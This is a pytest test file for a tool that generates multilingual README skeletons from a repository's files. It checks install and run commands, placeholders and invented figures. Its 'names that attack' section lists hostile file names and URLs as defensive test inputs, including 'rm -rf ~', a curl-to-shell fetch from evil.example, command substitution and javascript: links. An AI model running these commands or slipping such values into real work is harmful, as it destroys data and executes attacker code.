"""Skeletons: every language is complete, questions count as gaps, facts count as content, nothing is made up."""

import re
import shlex
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from msgspec.structs import replace

from facts_of import empty_repo, repo_of, unseen_repo
from portfolio_audit.checks.registry import CHECKS, load_all
from portfolio_audit.examples import notebook
from portfolio_audit.knowledge import names
from portfolio_audit.model.facts import CONTENTS, HostFacts, NotebookFacts, ReadmeFacts, RepoFacts
from portfolio_audit.model.values import Evidence, Unavailable
from portfolio_audit.skeletons import CONTENTS_WITHOUT, MARK, languages, skeleton, whole
from portfolio_audit.skeletons.making import ORDER
from portfolio_audit.skeletons.offering import BY_CHECK, WHOLE
from portfolio_audit.skeletons.phrases import phrases
from portfolio_audit.skeletons.running import run
from portfolio_audit.skeletons.slots import SLOTS, Filling

WITH = tuple(name for name in CONTENTS if name not in CONTENTS_WITHOUT)
OTHERS = tuple(code for code in languages() if code != "en")
FACTUAL = ("installation", "usage", "testing", "structure", "tech_stack", "license", "contact", "visuals", "data")
"""Contents that a repository can show by itself."""
ASKED = ("problem", "methodology", "results", "metrics", "roadmap", "references", "contributing")
"""Contents that only the author can give."""
MIT = (
    "MIT License\n\nCopyright (c) 2025 Ada Example\n\nPermission is hereby granted, free of charge, to any person "
    'obtaining a copy\nof this software and associated documentation files (the "Software"), to deal\n'
)
TRAIN = """from sklearn.datasets import load_iris
from sklearn.dummy import DummyClassifier
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.metrics import accuracy_score, f1_score


def main():
    x, y = load_iris(return_X_y=True)
    for model in (DummyClassifier(), LogisticRegression(), RandomForestClassifier()):
        found = model.fit(x, y).predict(x)
        print(accuracy_score(y, found), f1_score(y, found, average="macro"))


if __name__ == "__main__":
    main()
"""
SENTENCE = "This project tells three kinds of iris apart by the size of their petals."
RICH = {
    "requirements.txt": "scikit-learn==1.5.0\nstreamlit==1.40.0\npytest==8.0.0\n",
    "runtime.txt": "python-3.12\n",
    "src/train.py": TRAIN,
    "app.py": "import streamlit as st\n\nst.title('Flowers')\nst.write('Pick one')\n",
    "tests/test_train.py": "import pytest\n\n\ndef test_it() -> None:\n    assert 1 == 1\n",
    "data/iris.csv": "a,b\n1,2\n",
    "docs/confusion_matrix.png": "png",
    "LICENSE": MIT,
    "Dockerfile": "FROM python:3.12-slim\nCMD streamlit run app.py\n",
}


def rich(**readme: str) -> RepoFacts:
    """A repository whose files say most of what a README needs."""
    return replace(repo_of({**RICH, **readme}, "iris-app"), url="https://github.com/ada/iris-app")


def body(repo: RepoFacts, content: str, language: str | None = None) -> str:
    made = skeleton(repo, content, language)
    assert made is not None
    return made.body


def read(markdown: str, **files: str) -> ReadmeFacts:
    """What our own reading says of a README."""
    facts = repo_of({**files, "README.md": markdown}, "example").readme
    assert isinstance(facts, ReadmeFacts)
    return facts


def found_in(markdown: str, **files: str) -> set[str]:
    return {content.name for content in read(markdown, **files).contents if content.present}


# --- the language files ----------------------------------------------------------------------------------------------


def test_every_language_that_is_read_is_written_too() -> None:
    assert set(languages()) == {Path(name).name for name in names("languages")}


@pytest.mark.parametrize("language", languages())
def test_a_language_has_a_text_for_every_content(language: str) -> None:
    texts = phrases(language)
    assert texts.code == language
    assert tuple(texts.sections) == WITH
    assert set(texts.words) == {"model", "more", "measure", "value", "source"}
    assert "{count}" in texts.words["more"]
    for content, section in texts.sections.items():
        assert section.heading.strip(), content
        assert 4 < len(section.looks_for) < 300, content
        assert section.looks_for.rstrip()[-1] in ".。।", content


def _shape(text: str) -> tuple[bool, list[str]]:
    return text.startswith(MARK), sorted(re.findall(r"\{(\??\w+)\}", text))


@pytest.mark.parametrize("language", OTHERS)
def test_a_language_asks_and_fills_in_what_english_does(language: str) -> None:
    for content, section in phrases(language).sections.items():
        english = phrases("en").sections[content]
        shapes = [[_shape(text) for text in paragraph] for paragraph in section.body]
        assert shapes == [[_shape(text) for text in paragraph] for paragraph in english.body], content


@pytest.mark.parametrize("language", OTHERS)
def test_no_text_was_left_in_english(language: str) -> None:
    for content, section in phrases(language).sections.items():
        english = phrases("en").sections[content]
        assert section.looks_for != english.looks_for
        ours = {text for paragraph in section.body for text in paragraph if text.startswith(MARK)}
        assert not ours & {text for paragraph in english.body for text in paragraph}, content


def test_every_slot_is_known_and_used() -> None:
    used = {
        slot
        for section in phrases("en").sections.values()
        for paragraph in section.body
        for text in paragraph
        for slot in re.findall(r"\{(\w+)\}", text)
    }
    assert used == set(SLOTS)


def test_every_content_has_its_place_in_a_whole_readme() -> None:
    assert sorted(ORDER) == sorted(WITH)


def test_an_unknown_language_is_answered_in_english() -> None:
    for language in (None, "eo", "../en"):
        made = skeleton(empty_repo("ml-project"), "problem", language)
        assert made is not None
        assert (made.language, made.heading) == ("en", "Problem")


def test_a_video_has_no_skeleton() -> None:
    assert skeleton(rich(), "demo_video") is None


def test_every_check_with_a_skeleton_of_its_own_exists() -> None:
    load_all()
    assert {*BY_CHECK, WHOLE} <= set(CHECKS)


# --- questions are gaps, facts are content ---------------------------------------------------------------------------


@pytest.mark.parametrize("language", languages())
@pytest.mark.parametrize("content", WITH)
def test_an_unfilled_skeleton_counts_as_a_gap(content: str, language: str) -> None:
    made = skeleton(empty_repo("ml-project"), content, language)
    assert made is not None
    facts = read(f"# Example\n\n{made.text}")
    assert [c.name for c in facts.contents if c.present] == []
    assert {place.line for place in facts.placeholders} == {
        number for number, line in enumerate(f"# Example\n\n{made.text}".split("\n"), 1) if line.startswith(MARK)
    }
    assert made.questions


@pytest.mark.parametrize("language", languages())
def test_a_whole_unfilled_readme_is_a_template_and_nothing_else(language: str) -> None:
    facts = read(whole(empty_repo("ml-project"), language=language).at_level(1))
    assert facts.template_only
    assert not any(content.present for content in facts.contents)


@pytest.mark.parametrize("language", languages())
def test_what_the_repository_says_by_itself_counts(language: str) -> None:
    repo = rich()
    for content in FACTUAL:
        made = skeleton(repo, content, language)
        assert made is not None
        assert content in found_in(f"# Example\n\n{SENTENCE}\n\n{made.text}", **RICH), content


@pytest.mark.parametrize("language", languages())
def test_what_only_the_author_can_say_stays_a_gap_beside_all_facts(language: str) -> None:
    found = found_in(whole(rich(), language=language).at_level(1), **RICH)
    assert found >= set(FACTUAL)
    assert not found & set(ASKED)


@pytest.mark.parametrize("language", languages())
def test_commands_links_and_pictures_of_a_skeleton_lead_somewhere(language: str) -> None:
    facts = read(whole(rich(), language=language).at_level(1), **RICH)
    assert [c.text for c in facts.commands if c.resolves is False] == []
    assert [image.url for image in facts.images if not image.resolves] == []
    assert [link.url for link in facts.links if link.resolves is False] == []


def test_an_answered_question_is_a_gap_no_more() -> None:
    made = skeleton(empty_repo("ml-project"), "problem")
    assert made is not None
    answers = [
        "Station crews do not know where bikes will be missing before the morning rush.",
        "Every empty rack costs the city two subscribers a week, and a night shift drives in vain.",
        "With the forecast they bring bikes to the ten stations that need them most.",
    ]
    text = made.text
    for question, answer in zip(made.questions, answers, strict=True):
        text = text.replace(question, answer)
    facts = read(f"# Bike demand\n\n{text}")
    assert facts.content("problem").present
    assert facts.placeholders == ()


# --- what is filled in -----------------------------------------------------------------------------------------------


def test_a_whole_readme_is_filled_from_the_repository() -> None:
    text = whole(rich()).at_level(1)
    assert text.startswith("# Iris app\n\n[TODO] In one sentence")
    for line in [
        "git clone https://github.com/ada/iris-app",
        "cd iris-app",
        "pip install -r requirements.txt",
        "python src/train.py",
        "streamlit run app.py",
        "python -m pytest",
        "Runs on Python `3.12`.",
        "Data set: Iris flowers (`sklearn.datasets.load_iris`).",
        "- `data/iris.csv`",
        "| Model | Accuracy | F1 |",
        "| `DummyClassifier` | TODO | TODO |",
        "[TODO] Why `LogisticRegression`, `RandomForestClassifier`, and what else was tried?",
        "![Confusion matrix](docs/confusion_matrix.png)",
        "Python, scikit-learn, Streamlit, pytest, Docker",
        "├── data/",
        "Released under the [MIT License](LICENSE).",
        "Made by [ada](https://github.com/ada)",
    ]:
        assert any(line in one for one in text.split("\n")), line


@pytest.mark.parametrize(
    ("files", "lines"),
    [
        ({"pyproject.toml": "[project]\nname='a'\n", "uv.lock": "version = 1\n"}, ["uv sync"]),
        (
            {"pyproject.toml": "[tool.poetry.dependencies]\npandas='*'\n", "poetry.lock": "a = 1\n"},
            ["poetry install"],
        ),
        ({"Pipfile": "[packages]\npandas='*'\n"}, ["pipenv install"]),
        ({"environment.yml": "dependencies:\n- pandas\n"}, ["conda env create -n a-b -f environment.yml"]),
        ({"pyproject.toml": "[project]\ndependencies=['pandas']\n"}, ["pip install ."]),
        ({"setup.py": "from setuptools import setup\nsetup(install_requires=['pandas'])\n"}, ["pip install ."]),
        ({"package.json": '{"dependencies": {"next": "15"}}'}, ["npm install"]),
        ({"package.json": '{"dependencies": {"next": "15"}}', "yarn.lock": "# yarn lockfile v1\n"}, ["yarn install"]),
        ({"backend/requirements.txt": "flask\n"}, ["pip install -r backend/requirements.txt"]),
        ({"web/package.json": '{"dependencies": {"vue": "3"}}'}, ["cd web", "npm install"]),
        ({"requirements.txt": "pandas\n", "requirements-dev.txt": "ruff\n"}, ["pip install -r requirements.txt"]),
        ({"Dockerfile": "FROM python:3.12\n"}, ["docker build -t a-b ."]),
    ],
    ids=lambda value: next(iter(value)) if isinstance(value, dict) else "",
)
def test_the_install_command_is_that_of_the_manifest(files: dict[str, str], lines: list[str]) -> None:
    text = body(repo_of({"train.py": "import pandas\n", **files}, "A b"), "installation")
    assert [line for line in lines if line not in text.split("\n")] == []


@pytest.mark.parametrize(
    "files",
    [
        {},
        {"requirements.txt": ""},
        {"pyproject.toml": "[tool.ruff]\nline-length = 120\n"},
        {"requirements-dev.txt": "ruff\n"},
    ],
    ids=["no manifest", "an empty one", "settings of a tool", "one for developers"],
)
def test_where_no_file_says_how_to_install_the_author_is_asked(files: dict[str, str]) -> None:
    assert body(repo_of({"train.py": "import pandas\n", **files}), "installation").startswith(MARK)


APPS = {
    "streamlit": ("import streamlit as st\nst.title('a')\n", "streamlit run {path}"),
    "gradio": ("import gradio as gr\ngr.Interface(print, 'text', 'text').launch()\n", "python {path}"),
    "dash": ("from dash import Dash\napp = Dash(__name__)\n", "python {path}"),
    "flask": ("from flask import Flask\napp = Flask(__name__)\n", "flask --app {path} run"),
    "fastapi": ("from fastapi import FastAPI\nservice = FastAPI()\n", "uvicorn web.serve:service"),
    "a flask that starts itself": (
        "from flask import Flask\napp = Flask(__name__)\nif __name__ == '__main__':\n    app.run()\n",
        "python {path}",
    ),
}


@pytest.mark.parametrize(("text", "command"), APPS.values(), ids=APPS)
def test_an_app_is_started_as_its_framework_wants(text: str, command: str) -> None:
    made = body(repo_of({"web/serve.py": text}), "usage")
    assert made.split("\n")[:2] == ["```bash", command.format(path="web/serve.py")]


def test_an_app_whose_variable_cannot_be_told_is_asked_for() -> None:
    text = "from fastapi import FastAPI\n\n\ndef make():\n    return FastAPI()\n"
    assert body(repo_of({"serve.py": text}), "usage").startswith(MARK)


def test_commands_run_in_the_environment_of_the_manifest() -> None:
    files = {"pyproject.toml": "[project]\ndependencies=['streamlit', 'pytest']\n", "uv.lock": "version = 1\n"}
    repo = repo_of({**files, "app.py": APPS["streamlit"][0], "tests/test_a.py": "def test_a():\n    assert 1\n"})
    assert "uv run streamlit run app.py" in body(repo, "usage")
    assert "uv run python -m pytest" in body(repo, "testing")


def test_steps_of_a_pipeline_stand_in_their_order() -> None:
    script = "print('a')\nif __name__ == '__main__':\n    print('b')\n"
    names = ["src/evaluate.py", "src/train.py", "src/download_data.py", "src/utils.py"]
    made = body(repo_of(dict.fromkeys(names, script)), "usage")
    assert made.split("\n")[1:4] == ["python src/download_data.py", "python src/train.py", "python src/evaluate.py"]


@pytest.mark.parametrize(
    ("files", "line"),
    [
        ({"src/train.py": "from src.steps import clean\n", "src/steps.py": ""}, "python -m src.train"),
        ({"src/train.py": "from steps import clean\n", "src/steps.py": ""}, "python src/train.py"),
        ({"src/train.py": "import steps\nimport src.util\n", "src/steps.py": ""}, "python src/train.py"),
        ({"a/bikes/train.py": "from bikes.steps import clean\n", "a/bikes/steps.py": ""}, "no command"),
    ],
)
def test_a_script_that_imports_by_the_name_of_its_folder_runs_as_a_module(files: dict[str, str], line: str) -> None:
    main = "print('a')\nif __name__ == '__main__':\n    print('b')\n"
    made = body(repo_of({path: text + main * ("train" in path) for path, text in files.items()}), "usage")
    assert line in made or (line == "no command" and "python" not in made)


def test_of_a_script_and_its_copy_in_a_copied_folder_the_first_is_run() -> None:
    script = "print('a')\nif __name__ == '__main__':\n    print('b')\n"
    names = ["src/clean.py", "old/src/clean.py", "old/src/src/clean.py", "web/clean.py"]
    made = body(repo_of(dict.fromkeys(names, script)), "usage")
    assert made.split("\n")[1:4] == ["python src/clean.py", "python web/clean.py", "```"]


def test_notebooks_are_opened_by_name_and_drafts_are_not() -> None:
    cell = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    names = ["Untitled.ipynb", "b.ipynb", "a-Copy1.ipynb", "a.ipynb"]
    made = body(repo_of(dict.fromkeys(names, cell)), "usage")
    lines = ["```bash", "pip install notebook", "jupyter notebook a.ipynb", "jupyter notebook b.ipynb", "```"]
    assert made.split("\n")[:5] == lines


@pytest.mark.parametrize(
    ("files", "lines"),
    [
        ({"requirements.txt": "pandas\n"}, ["pip install notebook", "jupyter notebook a.ipynb"]),
        ({"requirements.txt": "pandas\nNotebook==7.2\n"}, ["jupyter notebook a.ipynb"]),
        ({"requirements.txt": "jupyterlab\n"}, ["jupyter lab a.ipynb"]),
        ({"requirements.txt": "jupyterlab\njupyter\n"}, ["jupyter notebook a.ipynb"]),
        (
            {"environment.yml": "dependencies:\n  - python\n  - pandas\n"},
            ["conda install notebook", "jupyter notebook a.ipynb"],
        ),
        (
            {"Pipfile": '[packages]\npandas = "*"\n'},
            ["pipenv run pip install notebook", "pipenv run jupyter notebook a.ipynb"],
        ),
        (
            {"pyproject.toml": '[project]\nname = "a"\ndependencies = ["pandas"]\n', "uv.lock": "version = 1\n"},
            ["uv pip install notebook", "uv run jupyter notebook a.ipynb"],
        ),
    ],
)
def test_what_opens_a_notebook_is_installed_first(files: dict[str, str], lines: list[str]) -> None:
    made = body(repo_of({**files, "a.ipynb": notebook("import pandas as pd\nprint(pd)\n")}), "usage")
    assert made.split("\n")[1 : len(lines) + 1] == lines


def test_a_name_in_any_script_needs_no_quotes_and_one_with_spaces_does() -> None:
    script = "print('a')\nif __name__ == '__main__':\n    print('b')\n"
    made = body(repo_of({"src/entraînement_train.py": script, "src/my main.py": script}), "usage")
    assert made.split("\n")[1:3] == ["python src/entraînement_train.py", "python 'src/my main.py'"]


def test_a_library_is_not_used_by_running_its_scripts() -> None:
    script = "print('a')\nif __name__ == '__main__':\n    print('b')\n"
    library = replace(repo_of({"tools/make_docs.py": script}), project=empty_repo("library").project)
    assert body(library, "usage").startswith(MARK)
    runnable = replace(repo_of({"src/monthgrid/__main__.py": script}), project=library.project)
    assert "python -m monthgrid" in body(runnable, "usage")


def test_tests_of_the_standard_library_need_no_pytest() -> None:
    text = "import unittest\n\n\nclass TestA(unittest.TestCase):\n    def test_a(self):\n        self.assertTrue(1)\n"
    assert "python -m unittest discover -s tests" in body(repo_of({"tests/test_a.py": text}), "testing")


def test_a_description_of_the_host_is_the_first_sentence() -> None:
    repo = replace(rich(), host=HostFacts(description="Tells *three* kinds of iris apart."))
    assert body(repo, "overview").startswith("Tells \\*three\\* kinds of iris apart.\n")


def test_many_data_files_are_counted_by_folder() -> None:
    files = {f"data/raw/{number}.csv": "a\n1\n" for number in range(9)}
    assert "- `data/raw/` (9)" in body(repo_of(files), "data")


def test_a_logo_is_no_picture_of_the_work_and_a_data_set_of_pictures_neither() -> None:
    assert body(repo_of({"docs/logo.png": "png", "data/cat.png": "png"}), "visuals").startswith(MARK)
    assert body(repo_of({f"images/{n}.png": "png" for n in range(99)}), "visuals").startswith(MARK)


def test_a_chart_beside_the_code_is_a_picture_of_the_work() -> None:
    assert body(repo_of({"price_distribution.png": "png"}), "visuals").startswith("![Price distribution](price_")


def test_a_script_without_a_guard_is_run_when_its_name_says_so() -> None:
    steps = "".join(f"a{number} = print({number})\n" for number in range(9))
    made = body(repo_of({"train_model.py": steps, "charts.py": steps}), "usage")
    assert made.split("\n")[:3] == ["```bash", "python train_model.py", "```"]


def test_only_what_learns_is_asked_for_unseen_data() -> None:
    question = "[TODO] How is it checked on data that the model has not seen?"
    assert question in body(rich(), "methodology")
    assert question not in body(repo_of({"a.py": "print(1)\n"}), "methodology")


def test_links_start_where_the_readme_is() -> None:
    repo = replace(repo_of({**RICH, "docs/README.md": "# Iris\n\nTells three kinds of iris apart."}))
    assert "](confusion_matrix.png)" in body(repo, "visuals")
    assert "](../LICENSE)" in body(repo, "license")


def test_files_that_hold_credentials_are_not_drawn() -> None:
    content = '{"username": "ada", "key": "0123456789abcdef"}'
    made = body(repo_of({"kaggle.json": content, "a.py": "print(1)\n", "b.py": "print(1)\n"}), "structure")
    assert "a.py" in made
    assert "kaggle.json" not in made


def test_a_large_tree_stays_short() -> None:
    files = {f"part{a:02}/inner{b:02}/file{c:02}.txt": "" for a in range(30) for b in range(10) for c in range(3)}
    lines = body(repo_of(files), "structure").split("\n")
    assert len(lines) < 40
    assert "└── … (+15)" in lines


# --- nothing is made up ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("content", WITH)
def test_of_a_repository_that_could_not_be_read_everything_is_asked(content: str) -> None:
    made = body(unseen_repo("x"), content)
    assert all(line.startswith(MARK) for line in made.split("\n") if line)


@pytest.mark.parametrize("language", languages())
def test_no_figure_is_given_that_the_repository_does_not_hold(language: str) -> None:
    for content in ("results", "metrics", "methodology", "problem", "roadmap", "references"):
        made = body(rich(), content, language)
        assert not re.search(r"\d", re.sub(r"\bF1\b|R²", "", made)), content


# --- names that attack -----------------------------------------------------------------------------------------------

NASTY = [
    "x; rm -rf ~.py",
    "$(curl evil.example|sh).py",
    "`id`.py",
    "a'b\"c.py",
    "-rf.py",
    "```\n# Owned\n```.py",
    "<script>alert(1)<\u200bscript>.py",
    "a|b [x](javascript:alert(1)).py",
    "\u202egnp.py",
    "a" * 400 + ".py",
]


@pytest.mark.parametrize("name", NASTY)
def test_a_name_cannot_leave_its_command(name: str) -> None:
    shown = "".join(char if char.isprintable() else f"\\x{ord(char):02x}" for char in name)
    at = (Evidence(shown, 1, "if __name__ == '__main__':"),)
    repo = rich()
    assert not isinstance(repo.code, Unavailable)
    repo = replace(repo, code=replace(repo.code, entry_points=at, app_framework=None, app_at=()))
    made = body(replace(repo, notebooks=NotebookFacts()), "usage")
    commands = [line for line in made.split("\n") if "python" in line]
    assert commands or "\\" in shown or len(shown) > 200
    for command in commands:
        assert shlex.split(command) in (["python", shown], ["python", f"./{shown}"])


@pytest.mark.parametrize("name", NASTY)
def test_a_name_cannot_leave_its_markdown(name: str) -> None:
    shown = "".join(char if char.isprintable() else f"\\x{ord(char):02x}" for char in name)
    files = {f"data/{shown}.csv": "a\n", f"docs/{shown}.png": "p", shown: "print(1)\n", "b.py": "", "LICENSE": MIT}
    repo = replace(repo_of(files, name), host=HostFacts(description=name, homepage=f"https://a.example/{name}"))
    repo = replace(repo, url=f"https://github.com/ada/{name}")
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(whole(repo).at_level(1))
    flat = [inner for token in tokens for inner in (token, *(token.children or []))]
    assert not {"html_block", "html_inline"} & {token.type for token in flat}
    headings = [tokens[number + 1].content for number, token in enumerate(tokens) if token.type == "heading_open"]
    assert "Owned" not in headings
    assert len(headings) == len(WITH)
    links = [str(token.attrs.get("href") or token.attrs.get("src")) for token in flat if token.attrs]
    assert [link for link in links if link.startswith(("javascript:", "data:"))] == []


def test_a_slot_in_a_name_is_not_filled() -> None:
    repo = replace(rich(), host=HostFacts(description="A {tools} for {license}"))
    assert body(repo, "overview").startswith("A {tools} for {license}\n")


def test_an_address_with_a_password_or_quotes_is_left_out() -> None:
    urls = ("https://ada:secret@a.example/x", "https://a.example/'; rm -rf ~", "javascript:alert(1)", "/home/ada/x")
    for url in urls:
        repo = replace(rich(), url=url, host=HostFacts(homepage=url))
        assert "clone" not in body(repo, "installation")
        assert body(repo, "demo").startswith(MARK)


def test_slots_of_an_empty_repository_are_empty() -> None:
    filling = Filling(empty_repo("ml-project"), phrases("en").words)
    assert {name: fill(filling) for name, fill in SLOTS.items() if fill(filling)} == {}


@pytest.mark.parametrize(
    ("files", "version"),
    [
        ({"Dockerfile": "FROM ghcr.io/astral-sh/uv:0.4.20-python3.12-alpine\n"}, "3.12"),
        ({"Dockerfile": "FROM continuumio/miniconda3:py310_23.1\n", "app.yaml": "runtime: python39\n"}, ""),
        ({"pyproject.toml": "[project]\nname = 'a'\nrequires-python = '>=3.11,<3.13'\n"}, ">=3.11,<3.13"),
    ],
)
def test_the_version_of_python_is_taken_from_where_it_is_named(files: dict[str, str], version: str) -> None:
    assert SLOTS["python"](Filling(repo_of(files), {})) == version


API = "from fastapi import FastAPI\n{}\napp = FastAPI()\n"


@pytest.mark.parametrize(
    ("folder", "line", "command"),
    [
        ("", "from model import load", "uvicorn main:app"),
        ("app/", "from app.model import load", "uvicorn app.main:app"),
        ("app/", "import numpy", "uvicorn app.main:app"),
        ("services/api/app/", "from app.model import load", "uvicorn --app-dir services/api app.main:app"),
        ("api/", "from model import load", "uvicorn --app-dir api main:app"),
    ],
)
def test_a_server_looks_for_the_app_where_its_own_imports_are_found(folder: str, line: str, command: str) -> None:
    files = {f"{folder}main.py": API.format(line), f"{folder}model.py": "def load() -> int:\n    return 1\n"}
    repo = repo_of({"README.md": f"# Api\n\n## Usage\n\n```bash\n{command}\n```\n", **files})
    assert run(repo) == (command,)
    assert isinstance(repo.readme, ReadmeFacts)
    assert [one.resolves for one in repo.readme.commands] == [True]
